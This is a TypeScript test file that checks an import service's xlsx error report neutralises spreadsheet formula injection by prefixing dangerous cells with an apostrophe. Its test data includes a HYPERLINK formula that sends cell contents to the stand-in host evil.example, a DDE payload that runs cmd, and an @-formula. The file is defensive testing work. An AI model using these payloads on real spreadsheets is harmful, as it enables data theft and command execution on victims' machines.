/**
 * Hostile review (December 2026) — formula injection through an import's error report, on PGlite
 * and PostgreSQL. An official uploads a residents file that someone else filled in; its refused
 * rows come back in the xlsx error report so the official can correct them in a spreadsheet and
 * upload them again. Before, the report wrote the file's cells as they were, so a cell reading
 * `=HYPERLINK("http://…")` or `+cmd|' /C calc'!A0` became a live formula the moment the official
 * edited it. Now every such cell starts with an apostrophe; a phone number written "+84 …" stays.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runImportJob } from '../../src/imports/runner.ts';
import { createTestApp, signInAs } from '../helpers.ts';
import type { TestApp } from '../helpers.ts';

const COMMUNE = '28756';
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")';
const DDE = "+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)';
const PHONE = '+84 912 345 678';

const csvField = (s: string) => (/[",]/u.test(s) ? `"${s.replace(/"/gu, '""')}"` : s);

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t?.close();
});

describe('hostile review: an import error report holds no live formula', () => {
  it('writes the refused row’s formula-like cells with an apostrophe, keeps the phone as it was', async () => {
    const officer = (await signInAs(t, 'commune_officer', COMMUNE)).headers;
    const lines = [
      ['Họ và tên', 'Ngày sinh', 'Giới tính', 'Điện thoại', 'Địa chỉ', 'Mã xã', DDE],
      [HYPERLINK, DDE, 'Nữ', PHONE, AT, COMMUNE, '-1-1'],
    ];
    const file = lines.map((l) => l.map(csvField).join(',')).join('\r\n');
    const uploaded = await t.app.inject({
      method: 'POST',
      url: '/api/imports?kind=people&source=hostile&fileName=hostile.csv',
      headers: { ...officer, 'content-type': 'text/csv' },
      payload: Buffer.from(file, 'utf8'),
    });
    expect(uploaded.statusCode, uploaded.body).toBe(200);
    const job = uploaded.json<{ id: string }>();
    const start = await t.app.inject({
      method: 'POST',
      url: `/api/imports/${job.id}/start`,
      headers: officer,
    });
    expect(start.statusCode, start.body).toBe(200);
    expect(await runImportJob(t.database, job.id)).toBe('done');

    const report = await t.app.inject({
      method: 'GET',
      url: `/api/imports/${job.id}/errors.xlsx`,
      headers: { ...officer, 'accept-language': 'en' },
    });
    expect(report.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(report.rawPayload as unknown as ArrayBuffer);
    const cells: unknown[] = [];
    book.eachSheet((sheet) => {
      sheet.eachRow((row) => {
        row.eachCell((cell) => cells.push(cell.value));
      });
    });
    expect(cells.filter((v) => typeof v !== 'string' && typeof v !== 'number')).toEqual([]);
    const text = cells.filter((v): v is string => typeof v === 'string');
    expect(text.filter((v) => /^[=+@]/u.test(v) && v !== PHONE)).toEqual([]);
    expect(text).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${DDE}`, `'${AT}`, PHONE, '-1-1']));
  });
});
